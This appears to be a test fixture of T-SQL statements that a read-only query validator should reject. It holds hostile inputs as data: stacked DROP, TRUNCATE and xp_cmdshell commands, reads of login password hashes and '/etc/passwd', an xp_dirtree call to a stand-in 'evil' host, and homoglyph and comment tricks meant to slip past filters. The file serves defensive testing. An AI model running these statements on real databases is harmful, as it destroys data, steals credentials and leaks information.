SELECT 1 DROP TABLE customers
---
SELECT * FROM customers DELETE FROM orders
---
SELECT * FROM customers c UPDATE products SET price = 0
---
SELECT * FROM customers INSERT INTO orders (id) VALUES (1)
---
SELECT 1 SHUTDOWN
---
SELECT 1 CHECKPOINT
---
SELECT * FROM customers RECONFIGURE
---
SELECT 1 COMMIT
---
SELECT 1 ROLLBACK
---
SELECT 1 REVERT
---
SELECT 1 EXEC xp_cmdshell 'dir'
---
SELECT 1 EXECUTE sp_who
---
SELECT 1 USE master
---
SELECT 1 WAITFOR DELAY '00:00:10'
---
SELECT 1 DBCC FREEPROCCACHE
---
SELECT 1 BACKUP DATABASE shop TO DISK = 'x'
---
SELECT 1 KILL 55
---
SELECT 1 GOTO a
---
SELECT 1 AS a PRINT 'x'
---
SELECT 1 SET ROWCOUNT 5
---
SELECT 1 TRUNCATE TABLE orders
---
SELECT 1 GRANT SELECT ON customers TO public
---
SELECT 1 SELECT 2
---
SELECT * INTO #t FROM customers
---
SELECT * FROM #t
---
EXEC sp_configure 'show advanced options', 1
---
EXECUTE('DROP TABLE customers')
---
xp_cmdshell 'dir'
---
sp_who
---
SELECT * FROM OPENROWSET('SQLNCLI', 'Server=x;', 'SELECT 1')
---
SELECT * FROM OPENROWSET(BULK '/etc/passwd', SINGLE_CLOB) AS t
---
SELECT * FROM OPENQUERY(other, 'SELECT 1')
---
SELECT * FROM OPENDATASOURCE('SQLNCLI', 'x').shop.dbo.customers
---
SELECT * FROM OPENXML(1, '/a')
---
SELECT * FROM [openrowset]('a', 'b', 'c')
---
WAITFOR DELAY '00:00:10'
---
USE master
---
SELECT * FROM other.shop.dbo.customers
---
SELECT * FROM shop.dbo.customers
---
SELECT * FROM master.sys.sql_logins
---
SELECT * FROM master..syslogins
---
SELECT * FROM sys.sql_logins
---
SELECT password_hash FROM [sys].[sql_logins]
---
SELECT password_hash FROM SYS.SQL_LOGINS
---
SELECT * FROM [ｓys].[sql_logins]
---
SELECT * FROM [sýs].sql_logins
---
SELECT * FROM syslogins
---
SELECT * FROM ｓyslogins
---
SELECT * FROM dbo.sysusers
---
SELECT * FROM sys.dm_exec_sessions
---
SELECT * FROM sys.configurations
---
SELECT * FROM sys.credentials
---
SELECT definition FROM sys.sql_modules
---
SELECT * FROM sys.fn_xe_file_target_read_file('x', NULL, NULL, NULL)
---
SELECT * FROM INFORMATION_SCHEMA.ROUTINES
---
SELECT CONVERT(varchar(100), (SELECT TOP 1 password_hash FROM sys.sql_logins))
---
SELECT 1 WHERE 1 = (SELECT COUNT(*) FROM sys.server_principals)
---
SELECT @@SERVERNAME
---
SELECT @@version.x
---
SELECT @x = 1
---
SELECT @x
---
DECLARE @x int = 1 SELECT @x
---
SELECT * FROM @t
---
SELECT @/* ' */ , (SELECT 1) -- '
---
SELECT * FROM customers WITH (TABLOCKX)
---
SELECT * FROM customers WITH (UPDLOCK, HOLDLOCK)
---
SELECT * FROM customers c (TABLOCKX)
---
SELECT * FROM customers (TABLOCKX)
---
SELECT * FROM customers OPTION (RECOMPILE)
---
SELECT * FROM customers OPTION (MAXRECURSION 0)
---
SELECT name FROM customers FOR BROWSE
---
SELECT dbo.wipe()
---
SELECT * FROM dbo.wipe_all()
---
SELECT master.dbo.fn_varbintohexstr(0x1)
---
SELECT PWDENCRYPT('x')
---
SELECT LOGINPROPERTY('sa', 'PasswordHash')
---
SELECT OBJECT_DEFINITION(1)
---
SELECT DECOMPRESS(0x1F)
---
SELECT NEXT VALUE FOR dbo.numbers
---
SELECT REPLICATE('x', 1000000000)
---
SELECT SPACE(id) FROM customers
---
SELECT x'\' , dbo.wipe() --'
---
SELECT $$ ' $$ , dbo.wipe() --'
---
SELECT 1 /* a /* b */ ' */ , dbo.wipe() --'
---
SELECT 1 -- a
, dbo.wipe()
---
SELECT geometry::Parse('POINT(1 1)')
---
a: SELECT 1 GOTO a
---
UPDATE products SET price = 0 OUTPUT inserted.id WHERE id = 1
---
DELETE TOP (1) FROM orders
---
WITH c AS (SELECT * FROM orders) DELETE FROM c
---
MERGE products AS p USING orders AS o ON p.id = o.id WHEN MATCHED THEN DELETE;
---
INSERT INTO customers EXEC wipe
---
BULK INSERT customers FROM 'x'
---
CREATE LOGIN evil WITH PASSWORD = 'x'
---
CREATE PROCEDURE p AS SELECT 1
---
ALTER LOGIN sa ENABLE
---
BEGIN TRAN DELETE FROM orders COMMIT
---
IF 1 = 1 DROP TABLE customers
---
WHILE 1 = 1 SELECT 1
---
PRINT 'x'
---
RAISERROR('x', 20, 1) WITH LOG
---
THROW 50000, 'x', 1
---
DENY SELECT ON customers TO public
---
RESTORE DATABASE shop FROM DISK = 'x'
---
DBCC SHRINKDATABASE (shop)
---
SHUTDOWN WITH NOWAIT
---
EXPLAIN SELECT 1
---
GO
DROP TABLE customers
---
SELECT * FROM FREETEXTTABLE(secrets, *, 'x')
---
SELECT * FROM CHANGETABLE(CHANGES customers, 0) AS c
---
SELECT * FROM [sys ].[sql_logins ]
---
SELECT name FROM [syslogins  ]
---
SELECT * INTO dbo.stolen FROM customers
---
SELECT 1 DECLARE c CURSOR FOR SELECT 1 OPEN c
---
SELECT 1 SAVE TRANSACTION a
---
SELECT 1 SETUSER 'dbo'
---
SELECT 1 RAISERROR('x', 20, 1) WITH LOG
---
SELECT 1 BULK INSERT customers FROM 'x'
---
SELECT 1 DISABLE TRIGGER ALL ON DATABASE
---
SELECT 1 IF 1 = 1 DROP TABLE customers
---
SELECT 1 WHILE 1 = 1 PRINT 'x'
---
SELECT 1 END CONVERSATION 'x'
---
SELECT 1; xp_dirtree '\\evil\x'
---
SELECT name FROM customers EXEC('x') AT other
---
SELECT * FROM evil...customers
---
SELECT * FROM evil.shop..customers
---
SELECT name FROM tempdb.sys.objects
---
SELECT * FROM msdb.dbo.backupset
---
SELECT * FROM sys.servers
---
SELECT * FROM sys.linked_logins
---
SELECT * FROM sys.dm_exec_sql_text(0x1)
---
SELECT * FROM fn_dblog(NULL, NULL)
---
SELECT HAS_PERMS_BY_NAME(NULL, NULL, 'CONTROL SERVER')
---
SELECT SESSION_CONTEXT(N'key')
---
SELECT DECRYPTBYKEY(name) FROM customers
---
SELECT * FROM customers WITH (INDEX(1), XLOCK)
---
SELECT * FROM customers WITH (NOLOCK) OPTION (USE HINT ('x'))
---
SELECT data.modify('delete (/a)') FROM documents
---
SELECT s.value FROM STRING_SPLIT('a', ',') s CROSS APPLY sys.fn_helpcollations() c
---
SELECT $PARTITION.ranges(1)
---
SELECT {fn DATABASE()}
---
SELECT TOP (dbo.wipe()) name FROM customers
---
SELECT name FROM customers ORDER BY id OFFSET dbo.wipe() ROWS
---
RECEIVE TOP (1) * FROM dbo.queue
---
SEND ON CONVERSATION 'x' ('y')
---
ENABLE TRIGGER t ON customers
---
ADD SIGNATURE TO p BY CERTIFICATE c
---
SELECT * FROM (SELECT city, segment FROM customers) s PIVOT (COUNT(segment) FOR segment IN ([a], [b]))  BY (SELECT pg_sleep(5))
---
SELECT j.id FROM documents d CROSS APPLY OPENJSON(d.data) WITH (SELECT load_extension('x'))
